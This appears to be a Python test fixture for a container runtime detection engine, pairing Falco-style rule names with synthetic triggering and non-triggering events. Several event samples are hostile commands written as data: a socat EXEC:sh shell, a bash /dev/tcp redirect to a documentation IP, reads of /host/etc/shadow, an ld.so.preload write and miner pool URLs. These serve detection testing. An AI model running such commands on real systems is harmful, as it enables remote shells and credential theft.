"""falco-sandbox_rules.yaml."""

from __future__ import annotations

from engine.events import Fd
from tests.helpers.events import PTS, called, opened, started, written
from tests.helpers.upstream.case import FIRST, Case, Cases, accepts, connects, image, resolved, socket

MINERS = "pool.minexmr.com"
NGINX = ("nginx", "containerd-shim")
CREATED = 0o755


CASES: Cases = {
    "Unexpected inbound connection source": Case(
        accepts("/usr/sbin/nginx", "198.51.100.1"), accepts("/usr/sbin/nginx", "10.0.0.7")
    ),
    "Read Shell Configuration File": Case(opened("/root/.zshrc"), opened("/root/.zshrc", program="/bin/zsh")),
    "Update Package Repository": Case(
        written("/etc/apt/sources.list.d/evil.list"), written("/etc/apt/keyrings/evil.gpg")
    ),
    "Write below binary dir": Case(
        written("/usr/bin/ls", program="/bin/cp"), written("/usr/bin/ls", program="/usr/bin/dpkg")
    ),
    "Write below monitored dir": Case(written("/usr/local/bin/tool"), written("/usr/local/share/tool")),
    "Write below etc": Case(written("/etc/ld.so.preload"), written("/etc/nginx/nginx.conf", program="/usr/sbin/nginx")),
    "Write below root": Case(written("/root/dropped"), written("/root/.cache/dropped")),
    "Write below rpm database": Case(
        written("/var/lib/rpm/Packages"), written("/var/lib/rpm/Packages", program="/usr/bin/rpm")
    ),
    "Modify binary dirs": Case(
        called("rename", oldpath="/usr/bin/ls", newpath="/tmp/ls"),
        called("rename", oldpath="/opt/ls", newpath="/tmp/ls"),
    ),
    "Mkdir binary dirs": Case(
        called("mkdir", path="/usr/bin/...", mode=0o755), called("mkdir", path="/usr/share/x", mode=0o755)
    ),
    "Launch Sensitive Mount Container": Case(
        started("/bin/sleep", **FIRST), started("/bin/sleep", container=image("falcosecurity/falco:1"), **FIRST)
    ),
    "Interpreted procs inbound network activity": Case(
        accepts("/usr/bin/python3", "198.51.100.1"), accepts("/usr/sbin/nginx", "198.51.100.1")
    ),
    "Interpreted procs outbound network activity": Case(
        connects("/usr/bin/python3", "198.51.100.1", 443), connects("/usr/bin/python3", "10.0.0.7", 443)
    ),
    "Unexpected K8s NodePort Connection": Case(
        connects("/usr/bin/curl", "10.0.0.7", 30001), connects("/usr/bin/curl", "10.0.0.7", 29999)
    ),
    "Create Hidden Files or Directories": Case(written("/tmp/.hidden"), written("/tmp/visible")),
    "Detect outbound connections to common miner pool ports": Case(
        resolved(connects("/tmp/x", "198.51.100.1", 3333), "198.51.100.1", MINERS),
        resolved(connects("/tmp/x", "198.51.100.1", 3331), "198.51.100.1", MINERS),
    ),
    "Detect crypto miners using the Stratum protocol": Case(
        started("/tmp/x", "-o", "stratum+tcp://pool:3333"), started("/tmp/x", "-o", "tcp://pool:3333")
    ),
    "Kubernetes Client Tool Launched in Container": Case(
        started("/usr/bin/kubectl"), started("/usr/bin/kubectl", on_host=True)
    ),
    "Container Drift Detected (chmod)": Case(
        called("fchmodat", dirfd=-100, filename="/tmp/x", mode=0o755),
        called("fchmodat", dirfd=-100, filename="/tmp/x", mode=0o755, res=-2),
    ),
    "Container Drift Detected (open+create)": Case(
        called("creat", fd=Fd(num=3, type="file", name="/tmp/x"), res=3, name="/tmp/x", mode=0o755),
        called("creat", fd=Fd(num=3, type="file", name="/tmp/x"), res=3, name="/tmp/x", mode=0o644),
    ),
    "Container Run as Root User": Case(started("/bin/sleep", **FIRST), started("/bin/sleep", uid=1000, **FIRST)),
    "Sudo Potential Privilege Escalation": Case(
        started("/usr/bin/sudoedit", "-s", "x\\"), started("/usr/bin/sudoedit", "-s", "x")
    ),
    "Unprivileged Delegation of Page Faults Handling to a Userspace Process": Case(
        called("userfaultfd", uid=1000, flags=0, res=3), called("userfaultfd", uid=0, flags=0, res=3)
    ),
    "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)": Case(
        started("/usr/bin/pkexec"), started("/usr/bin/pkexec", "id")
    ),
    "Java Process Class File Download": Case(
        called("recvfrom", "/usr/bin/java", fd=socket("198.51.100.1", 8888), res=8, data="\xca\xfe\xba\xbe\0\0\0A"),
        called("recvfrom", "/usr/bin/java", fd=socket("198.51.100.1", 8888), res=8, data="HTTP/1.1"),
    ),
    "Modify Container Entrypoint": Case(
        written("/proc/self/exe", program="/tmp/x"), written("/proc/self/exe", program="/usr/bin/dockerd")
    ),
    "Decoding Payload in Container": Case(started("/bin/base64", "-d", "x"), started("/bin/base64", "x")),
    "Basic Interactive Reconnaissance": Case(
        started("/usr/bin/whoami", tty=PTS, vpid=7, vpgid=7), started("/usr/bin/whoami", tty=PTS, vpid=7, vpgid=6)
    ),
    "Netcat/Socat Remote Code Execution on Host": Case(
        started("/usr/bin/socat", "TCP:198.51.100.1:80", "EXEC:sh", on_host=True),
        started("/usr/bin/socat", "TCP:198.51.100.1:80", "STDIO", on_host=True),
    ),
    "Network Tool Executed During NPM Package Install": Case(
        started("/usr/bin/nmap", ancestors=("sh", "node", "npm")), started("/usr/bin/nmap", ancestors=("sh", "node"))
    ),
    "Known Cryptominer Process Executed": Case(started("/tmp/xmrig"), started("/tmp/xmrighty")),
    "Web Server Spawned Shell": Case(
        started("/bin/sh", "-c", "id", ancestors=NGINX), started("/bin/sh", "-c", "/usr/bin/id", ancestors=NGINX)
    ),
    "Web Server Spawned Suspicious Child Process": Case(
        started("/usr/bin/wget", ancestors=NGINX), started("/usr/bin/wget", "http://me/status", ancestors=NGINX)
    ),
    "Reverse Shell from Web Server": Case(
        started("/bin/bash", "-c", "cat >/dev/tcp/198.51.100.1/80", ancestors=NGINX),
        started("/bin/bash", "-c", "cat >/dev/null", ancestors=NGINX),
    ),
    "Privileged Container Device Access": Case(opened("/dev/sda1"), opened("/dev/sda1", on_host=True)),
    "Container Access to Host Sensitive Paths": Case(
        opened("/host/etc/shadow"), opened("/host/etc/shadow", program="/usr/bin/runc")
    ),
}
"""By the rule's name."""
